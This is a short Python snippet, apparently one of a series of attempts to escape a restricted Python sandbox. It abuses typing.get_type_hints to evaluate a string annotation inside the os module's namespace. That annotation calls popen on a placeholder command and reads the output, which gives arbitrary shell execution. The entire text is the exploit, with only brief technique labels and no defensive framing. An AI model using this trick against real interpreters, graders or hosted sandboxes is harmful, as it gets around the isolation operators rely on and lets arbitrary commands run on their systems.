# tries: names are looked up in the module that the class says it is from
# class: library
# bare: gate
import typing
class A: pass
for A.__module__ in ["os"]: pass
A.__annotations__ = {"x": "popen(%r).read()" % SHOW}
try:
    print(typing.get_type_hints(A))
except Exception as e:
    print(e)
